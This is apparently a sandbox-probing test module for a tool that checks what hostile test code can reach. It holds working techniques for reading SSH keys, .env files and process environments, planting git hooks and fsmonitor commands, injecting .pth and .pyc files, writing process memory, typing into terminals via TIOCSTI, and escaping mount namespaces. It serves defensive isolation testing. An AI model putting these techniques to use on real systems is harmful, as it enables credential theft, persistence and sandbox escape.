"""What hostile code in a test tries to reach: one function for each probe of `scripts/probe`.

The script puts this file into a patch as a test, beside a `facts.json` with all that an attacker
could know: paths, process ids, addresses, never a secret. What was reached is judged from
outside. The report tells only what was read, what each attempt said, and what cannot be seen
from outside: an attempt whose name begins with `reach` counts when it succeeds.

It is harmless by itself: a few attempts each, on things that the script made, loopback only.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import importlib.util
import json
import os
import platform
import signal
import socket
import sqlite3
import stat
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

Facts = dict[str, Any]

MARK = "REPORT "
SECRET = "PROBE_SECRET"
DAEMON_S = 20
_WAIT_S = 2.0
_START_S = 0.3
"""How long a new process may take to be what it is to be."""
_SHOWN = 100
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (0, 0))
_USER_KEYRING, _SET_TIMEOUT = -4, 15
_NEW_MOUNTS, _NEW_USERS = 0x20000, 0x10000000
_PRIVATE, _REMOUNT, _UMOUNT_DETACHED = 0x44000, 0x1020, 2
_POKEDATA, _DETACH, _SEIZE, _INTERRUPT, _WALL = 5, 17, 0x4206, 0x4207, 0x40000000
_libc = ctypes.CDLL(None, use_errno=True)


class Attempts:
    """Makes attempts, each whatever became of the others, and keeps what they said."""

    def __init__(self) -> None:
        self.said: dict[str, str] = {}
        self.read: list[str] = []

    def __call__(self, name: str, action: Callable[..., str | None], *arguments: Any) -> None:
        try:
            found = action(*arguments)
        except (OSError, ValueError, sqlite3.Error, subprocess.SubprocessError) as error:
            self.said[name] = f"{type(error).__name__}: {error}"[:_SHOWN]
        else:
            self.said[name] = "done"
            if found:
                self.read.append(found)


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    metafunc.parametrize("name", _facts()["attacks"])


def test_reach(name: str) -> None:
    attempts = Attempts()
    ATTACKS[name](_facts(), attempts)
    report = {"attack": name, "said": attempts.said, "read": attempts.read}
    pytest.fail(MARK + json.dumps(report), pytrace=False)


def _facts() -> Facts:
    facts: Facts = json.loads(Path(__file__).with_name("facts.json").read_text())
    return facts


def nothing(facts: Facts, attempt: Attempts) -> None:
    """Show that a test runs at all."""
    attempt("nothing", lambda: None)


def imported(facts: Facts, attempt: Attempts) -> None:
    """Tell what a module of the environment holds, which an earlier run may have replaced."""
    attempt("import", lambda: str(importlib.import_module("probe_dependency").VALUE))


# The user's repository.


def branch(facts: Facts, attempt: Attempts) -> None:
    """Move the user's branch: through what git finds here, by its path, by whom it borrows from."""
    moved = ("update-ref", "refs/heads/main", facts["commit"])
    attempt("git here", _git, *moved)
    attempt("git there", _git, f"--git-dir={facts['git']}", *moved)
    for git_dir in (facts["git"], *_lenders()):
        attempt(f"write {git_dir}", _write, f"{git_dir}/refs/heads/main", facts["commit"] + "\n")


def hook(facts: Facts, attempt: Attempts) -> None:
    for git_dir in (facts["git"], *_lenders(), _common_dir()):
        path = f"{git_dir}/hooks/post-checkout"
        attempt(f"write {git_dir}", _write, path, "#!/bin/sh\nexit 0\n")
        attempt(f"chmod {git_dir}", os.chmod, path, 0o755)


def config(facts: Facts, attempt: Attempts) -> None:
    attempt("git here", _git, "config", "alias.st", "!true")
    attempt("git there", _git, f"--git-dir={facts['git']}", "config", "core.fsmonitor", "true")
    for git_dir in (facts["git"], *_lenders()):
        attempt(f"append {git_dir}", _append, f"{git_dir}/config", "[alias]\n\tci = !true\n")


def objects(facts: Facts, attempt: Attempts) -> None:
    for folder in (f"{facts['git']}/objects", *(f"{path}/objects" for path in _lenders())):
        attempt(f"unlink in {folder}", os.unlink, f"{folder}/{facts['object']}")
        attempt(f"rename {folder}", os.rename, folder, f"{folder}.away")


def work_tree(facts: Facts, attempt: Attempts) -> None:
    for top in _through(facts, facts["repo"]):
        attempt(f"append in {top}", _append, f"{top}/calc.py", "# owned\n")
        attempt(f"new file in {top}", _write, f"{top}/{facts['token']}", "owned")


def index(facts: Facts, attempt: Attempts) -> None:
    git_dir = facts["git"]
    attempt("git there", _git, f"--git-dir={git_dir}", "update-index", "--force-remove", "calc.py")
    attempt("append", _append, f"{git_dir}/index", "owned")
    attempt("rename", os.rename, f"{git_dir}/index", f"{git_dir}/index.away")


def dotenv(facts: Facts, attempt: Attempts) -> None:
    """Read a file of the user's work tree that git ignores and nobody named."""
    for path in (".env", *(f"{top}/.env" for top in _through(facts, facts["repo"]))):
        attempt(f"read {path}", _read, path)


# Files beside it.


def home(facts: Facts, attempt: Attempts) -> None:
    for folder in _through(facts, facts["home"]):
        attempt(f"append in {folder}", _append, f"{folder}/.bashrc", "# owned\n")
        attempt(f"new file in {folder}", _write, f"{folder}/.ssh/authorized_keys", "owned")


def secret(facts: Facts, attempt: Attempts) -> None:
    for folder in _through(facts, facts["home"]):
        attempt(f"read in {folder}", _read, f"{folder}/.ssh/id_ed25519")


def tmp(facts: Facts, attempt: Attempts) -> None:
    for folder in facts["temporary"]:
        attempt(f"write in {folder}", _write, f"{folder}/{facts['token']}", "owned")


def mounts(facts: Facts, attempt: Attempts) -> None:
    """Take away what is mounted over the user's files, with the rights at hand or new ones."""
    for name, spaces in (("mounts", _NEW_MOUNTS), ("users", _NEW_MOUNTS | _NEW_USERS)):
        attempt(f"new {name}", _write_below, spaces, facts)


def shm(facts: Facts, attempt: Attempts) -> None:
    attempt("write", _write, f"/dev/shm/{facts['token']}", "owned")


def pth(facts: Facts, attempt: Attempts) -> None:
    attempt("write", _write, f"{facts['site']}/{facts['token']}.pth", "import os\n")


def pyc(facts: Facts, attempt: Attempts) -> None:
    """Leave compiled code where a later run, or the user, imports it in place of the source."""
    source = facts["dependency"]
    status = os.stat(source)
    code = compile(f"VALUE = {facts['token']!r}\n", source, "exec")
    external: Any = importlib.import_module("importlib._bootstrap_external")
    data = external._code_to_timestamp_pyc(code, int(status.st_mtime), status.st_size)
    prefix, found = sys.pycache_prefix, set()
    for candidate in (prefix, None, facts["compiled"]):
        sys.pycache_prefix = candidate
        found.add(importlib.util.cache_from_source(source))
    sys.pycache_prefix = prefix
    for path in sorted(found):
        attempt(f"write {path}", _write, path, data)


def store(facts: Facts, attempt: Attempts) -> None:
    """Write what the engine keeps: every folder near the top of its cache, settings, verdicts."""
    for folder in facts["kept"]:
        attempt(f"write in {folder}", _write, f"{folder}/{facts['token']}", "owned")
    for path in facts["settings"]:
        attempt(f"append {path}", _append, path, f"# {facts['token']}\n")
    attempt("sqlite", _make_table, facts["database"], facts["token"])


def trap(facts: Facts, attempt: Attempts) -> None:
    """Leave settings behind that make the next git here run a command of ours."""
    command = f"touch '{facts['home']}/{facts['token']}'; false"
    for key in ("core.fsmonitor", "filter.trap.smudge", "filter.trap.clean", "diff.external"):
        attempt(f"config {key}", _git, "config", key, command)
    hooks, attributes = _git_path("hooks"), _git_path("info/attributes")
    attempt("config hooks", _git, "config", "core.hooksPath", hooks)
    for name in ("post-checkout", "reference-transaction", "post-index-change"):
        attempt(f"hook {name}", _write, f"{hooks}/{name}", f"#!/bin/sh\n{command}\n")
        attempt(f"chmod {name}", os.chmod, f"{hooks}/{name}", 0o755)
    attempt("attributes", _write, attributes, "* filter=trap\n")


# The engine's process, and others.


def environment(facts: Facts, attempt: Attempts) -> None:
    attempt("environ", os.environ.get, SECRET)
    attempt("/proc/self", _secret_of, "self")


def environ(facts: Facts, attempt: Attempts) -> None:
    """Read the environment of the engine, and of every process between it and this one."""
    for pid in dict.fromkeys((facts["engine"], *_ancestors(facts))):
        attempt(f"read {pid}", _secret_of, pid)


def send_signal(facts: Facts, attempt: Attempts) -> None:
    """Ring the engine with a signal that nobody minds."""
    attempt("kill", os.kill, facts["engine"], signal.SIGURG)
    attempt("pidfd", _signal_by_descriptor, facts["engine"])


def ptrace(facts: Facts, attempt: Attempts) -> None:
    """Write into the engine's memory, into bytes that it sets apart for that."""
    pid, address = facts["engine"], facts["canary"]
    attempt("process_vm_writev", _write_memory, pid, address)
    attempt("/proc/pid/mem", _write_memory_file, pid, address + 8)
    attempt("ptrace", _poke, pid, address + 16)


def daemon(facts: Facts, attempt: Attempts) -> None:
    """Start a process without parent, session, environment or descriptors of the run."""
    attempt("fork", _start_daemon, facts["token"], "")
    time.sleep(_START_S)


def orphan(facts: Facts, attempt: Attempts) -> None:
    """Start such a process, which ends whoever watches over the run, see `linger`."""
    above = list(_ancestors(facts))
    # Without the engine among them, those further up may be nobody's that we know.
    watching = above[:-1] if above[-1] == facts["engine"] else [pid for pid in above[:1] if pid > 1]
    kills = "".join(f"os.kill({pid}, 9); " for pid in watching)
    ending = f"import os; time.sleep({_START_S}); {kills}"
    attempt("fork", _start_daemon, facts["token"], ending)


def linger(facts: Facts, attempt: Attempts) -> None:
    """Be busy while the process of the attack before is at work."""
    time.sleep(4 * _START_S)


def descriptors(facts: Facts, attempt: Attempts) -> None:
    """Write through every folder that was left open for us."""
    for name in os.listdir("/proc/self/fd"):
        attempt(f"write through {name}", _write_beside, int(name), facts["token"])


def terminal(facts: Facts, attempt: Attempts) -> None:
    """Write to the user's terminal, and type on it."""
    for path in ("/dev/tty", facts["terminal"]):
        attempt(f"write to {path}", _write, path, f"shown-{facts['token']}\n")
        attempt(f"type on {path}", _type, path, f"typed-{facts['token']}\n")


# The network, and what else a kernel shares.


def tcp(facts: Facts, attempt: Attempts) -> None:
    for host, port in facts["tcp"]:
        attempt(f"connect {host}", _say, _family(host), socket.SOCK_STREAM, (host, port))


def udp(facts: Facts, attempt: Attempts) -> None:
    for host, port in facts["udp"]:
        attempt(f"send {host}", _say, _family(host), socket.SOCK_DGRAM, (host, port))


def out(facts: Facts, attempt: Attempts) -> None:
    """Take an address of an interface that leads out; nothing is sent."""
    for host in facts["addresses"]:
        attempt(f"reach {host} by TCP", _bind, socket.SOCK_STREAM, host)
        attempt(f"reach {host} by UDP", _bind, socket.SOCK_DGRAM, host)


def abstract(facts: Facts, attempt: Attempts) -> None:
    name = "\0" + facts["abstract"]
    attempt("connect", _say, socket.AF_UNIX, socket.SOCK_STREAM, name)


def unix(facts: Facts, attempt: Attempts) -> None:
    """Connect to services that listen on a path, as Docker does; a real one hears nothing."""
    for path in facts["sockets"]:
        attempt(f"connect {path}", _say, socket.AF_UNIX, socket.SOCK_STREAM, path)
    for path in facts["services"]:
        attempt(f"reach {path}", _connect, path)


def keyring(facts: Facts, attempt: Attempts) -> None:
    attempt("add_key", _add_key, facts["token"])


def sysv(facts: Facts, attempt: Attempts) -> None:
    attempt("shmget", _checked, _libc.shmget, facts["sysv_key"], 4096, 0o1600)


def kernel(facts: Facts, attempt: Attempts) -> None:
    """Open for writing what belongs to the whole machine, write nothing; open its disk."""
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/vm/drop_caches",
        "/proc/sysrq-trigger",
        "/proc/irq/default_smp_affinity",
        "/proc/mtrr",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/kernel/uevent_helper",
        "/dev/mem",
    ):
        attempt(f"reach {path}", lambda path=path: os.close(os.open(path, os.O_WRONLY)))
    if facts["disk"]:
        attempt("reach the disk", _open_disk, facts["disk"])


def _write(path: str, content: str | bytes) -> None:
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    data = content.encode() if isinstance(content, str) else content
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NOCTTY, 0o644)
    with open(descriptor, "wb") as file:
        file.write(data)


def _append(path: str, text: str) -> None:
    with open(path, "ab") as file:
        file.write(text.encode())


def _read(path: str) -> str:
    return Path(path).read_text()


def _through(facts: Facts, folder: str) -> list[str]:
    """Return `folder` and other ways to it, past a namespace of ours."""
    return [folder, f"/proc/{facts['engine']}/root{folder}", f"/proc/1/root{folder}"]


def _git(*arguments: str) -> None:
    _git_says(*arguments)


def _git_says(*arguments: str) -> str:
    done = subprocess.run(["git", *arguments], capture_output=True, text=True, timeout=_WAIT_S)
    if done.returncode:
        raise ValueError(done.stderr.strip())
    return done.stdout.strip()


def _git_path(name: str) -> str:
    try:
        return os.path.abspath(_git_says("rev-parse", "--git-path", name))
    except (OSError, ValueError, subprocess.SubprocessError):
        return os.path.abspath(f".git/{name}")


def _common_dir() -> str:
    return os.path.dirname(_git_path("hooks"))


def _lenders() -> list[str]:
    """Return the repositories that the one here borrows from, those they borrow from too."""
    found: list[str] = []
    folder = _git_path("objects")
    while len(found) < 5:
        try:
            folder = _read(f"{folder}/info/alternates").splitlines()[0]
        except (OSError, IndexError):
            break
        found.append(os.path.dirname(folder))
    return found


def _make_table(database: str, token: str) -> None:
    connection = sqlite3.connect(f"file:{database}?mode=rw", uri=True, timeout=_WAIT_S)
    try:
        connection.execute(f'CREATE TABLE "{token}" (owned)')
        connection.commit()
    finally:
        connection.close()


def _ancestors(facts: Facts) -> Iterator[int]:
    """Yield the processes above this one, up to the engine where it is in sight."""
    pid = os.getppid()
    for _ in range(10):
        yield pid
        if pid in (0, 1, facts["engine"]):
            return
        # The second field may hold spaces and parentheses.
        pid = int(_read(f"/proc/{pid}/stat").rpartition(")")[2].split()[1])


def _secret_of(pid: object) -> str | None:
    """Return the one variable that is the script's; nobody else's are looked at."""
    pairs = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
    found = [pair for pair in pairs if pair.startswith(SECRET.encode() + b"=")]
    return found[0].decode() if found else None


def _signal_by_descriptor(pid: int) -> None:
    descriptor = os.pidfd_open(pid)
    try:
        signal.pidfd_send_signal(descriptor, signal.SIGURG)
    finally:
        os.close(descriptor)


def _checked(function: Callable[..., int], *arguments: Any) -> None:
    ctypes.set_errno(0)
    if function(*arguments) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


class _Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def _write_memory(pid: int, address: int) -> None:
    text = ctypes.create_string_buffer(b"owned", 5)
    mine, theirs = _Vector(ctypes.addressof(text), 5), _Vector(address, 5)
    one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
    call = _libc.process_vm_writev
    _checked(call, pid, ctypes.byref(mine), one, ctypes.byref(theirs), one, none)


def _write_memory_file(pid: int, address: int) -> None:
    descriptor = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    try:
        os.pwrite(descriptor, b"owned", address)
    finally:
        os.close(descriptor)


def _poke(pid: int, address: int) -> None:
    def request(number: int, where: int = 0, value: int = 0) -> None:
        _checked(_libc.ptrace, number, pid, ctypes.c_void_p(where), ctypes.c_void_p(value))

    request(_SEIZE)
    try:
        request(_INTERRUPT)
        deadline = time.monotonic() + _WAIT_S
        while os.waitpid(pid, os.WNOHANG | _WALL) == (0, 0) and time.monotonic() < deadline:
            time.sleep(0.01)
        request(_POKEDATA, address, struct.unpack("=q", b"owned\0\0\0")[0])
    finally:
        request(_DETACH)


def _start_daemon(token: str, first: str) -> None:
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for number in range(3):
                os.dup2(null, number)
            os.closerange(3, 1024)
            code = f"import time; {first}time.sleep({DAEMON_S})"
            os.execve(sys.executable, [sys.executable, "-S", "-c", code, token], {})
    finally:
        os._exit(0)


def _write_below(spaces: int, facts: Facts) -> None:
    """Write the user's files in namespaces of our own, with nothing mounted over them."""
    child = os.fork()
    if child:
        status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        if status:
            raise OSError(status, os.strerror(status))
        return
    status = 1
    try:
        user, group = os.getuid(), os.getgid()
        _checked(_libc.unshare, spaces)
        if spaces & _NEW_USERS:
            _write("/proc/self/setgroups", "deny")
            _write("/proc/self/uid_map", f"0 {user} 1")
            _write("/proc/self/gid_map", f"0 {group} 1")
        # Otherwise what is done here may be done to the machine.
        _checked(_libc.mount, None, b"/", None, _PRIVATE, None)
        attempts = Attempts()
        _uncover(facts, attempts)
        status = 0 if "done" in attempts.said.values() else errno.EACCES
    except OSError as error:
        status = error.errno or 1
    finally:
        os._exit(status)


def _uncover(facts: Facts, attempt: Attempts) -> None:
    for folder in (facts["repo"], facts["home"], "/tmp", "/dev/shm", "/var", "/"):
        path = folder.encode()
        attempt(f"umount {folder}", _checked, _libc.umount2, path, _UMOUNT_DETACHED)
        attempt(f"remount {folder}", _checked, _libc.mount, None, path, None, _REMOUNT, None)
    for folder in (facts["repo"], facts["home"], *facts["temporary"], "/dev/shm"):
        attempt(f"write in {folder}", _write, f"{folder}/{facts['token']}", "owned")


def _write_beside(folder: int, name: str) -> None:
    if not stat.S_ISDIR(os.fstat(folder).st_mode):
        raise ValueError("not a folder")
    os.close(os.open(name, os.O_WRONLY | os.O_CREAT, dir_fd=folder))


def _type(path: str, text: str) -> None:
    descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
    try:
        for letter in text.encode():
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes((letter,)))
    finally:
        os.close(descriptor)


def _family(host: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def _say(family: int, kind: int, address: Any) -> None:
    with socket.socket(family, kind) as connection:
        connection.settimeout(_WAIT_S)
        connection.connect(address)
        connection.send(b"owned")


def _connect(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(_WAIT_S)
        connection.connect(path)


def _bind(kind: int, host: str) -> None:
    with socket.socket(_family(host), kind) as taken:
        taken.bind((host, 0))


def _add_key(token: str) -> None:
    """Add a key that the user keyring forgets by itself."""
    if not _ADD_KEY:
        raise ValueError("the numbers of the system calls are not known")
    call = _libc.syscall
    key = call(_ADD_KEY, b"user", token.encode(), b"owned", 5, _USER_KEYRING)
    if key == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    _checked(call, _KEYCTL, _SET_TIMEOUT, key, 30)


def _open_disk(device: int) -> None:
    path = f"{os.environ.get('TMPDIR', '/tmp')}/disk-{os.getpid()}"
    os.mknod(path, stat.S_IFBLK | 0o600, device)
    try:
        os.close(os.open(path, os.O_RDONLY))
    finally:
        os.unlink(path)


ATTACKS: dict[str, Callable[[Facts, Attempts], None]] = {
    attack.__name__: attack
    for attack in (
        nothing, imported, branch, hook, config, objects, work_tree, index, dotenv, home, secret,
        tmp, shm, pth, pyc, store, trap, environment, environ, send_signal, ptrace, daemon,
        orphan, linger, descriptors, terminal, mounts, tcp, udp, out, abstract, unix, keyring, sysv,
        kernel,
    )
}  # fmt: skip
